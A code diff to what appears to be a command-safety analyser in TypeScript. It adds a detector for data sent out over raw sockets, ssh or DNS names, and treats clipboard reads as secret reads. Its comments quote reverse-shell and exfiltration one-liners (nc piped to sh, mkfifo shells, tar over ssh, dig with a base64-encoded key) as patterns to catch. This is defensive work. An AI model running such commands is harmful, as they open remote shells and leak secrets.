@@ -69,6 +69,7 @@ export function effectsTogether(commands: readonly Command[], alone: readonly Ef
     codeFromElsewhere(command, commands, alone, before, own, { downloaded, decoded }, added);
     secretsLeaving(command, commands, alone, before, own, tainted, added);
     socketShell(command, commands, before, own, added);
+    bareSending(command, before, alone, own, added);
     remember(before, alone, own, { downloaded, decoded }, tainted);
   }
   return added;
@@ -162,7 +163,8 @@ function executes(command: Command, tags: readonly string[]): Effect {
 function isSecretRead(effect: Effect): boolean {
   return (
     (effect.kind === 'read' && (effect.object.labels.includes('secret') || effect.tags.includes('secret'))) ||
-    effect.tags.includes('environment')
+    effect.tags.includes('environment') ||
+    effect.tags.includes('clipboard-read')
   );
 }
 
@@ -222,6 +224,30 @@ function socketShell(
   // `nc host port | sh`, `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`
   if (before.some(raw) || (raw(next) && command.pipedFrom !== null))
     added.push(executes(command, ['reverse-shell']));
+}
+
+/** `echo x | nc host 99`, `tar c . | ssh host 'cat > x'`, `dig $(base64 key).example.com`. */
+function bareSending(
+  command: Command,
+  before: readonly Command[],
+  alone: readonly Effect[][],
+  own: readonly Effect[],
+  added: Effect[],
+): void {
+  const connect = own.find(
+    (effect) => effect.kind === 'connect' && !effect.object.labels.includes('loopback'),
+  );
+  if (connect === undefined) return;
+  const fed = before.length > 0 || command.redirects.some((redirect) => redirect.operator === '<');
+  const packed = before.some((other) =>
+    (alone[other.index] ?? NO_EFFECTS).some((effect) => effect.tags.includes('archived')),
+  );
+  const lookup =
+    connect.tags.includes('name-lookup') &&
+    /\uFFFC[^\uFFFC]*\.[a-z\d-]+\.[a-z]{2,}/.test(connect.object.value);
+  if ((connect.tags.includes('raw-socket') && fed) || lookup)
+    added.push({ ...connect, kind: 'upload', object: { ...connect.object, known: true }, tags: ['raw-out'] });
+  else if (packed) added.push({ ...connect, kind: 'upload', tags: ['file-out'] });
 }
 
 function remember(
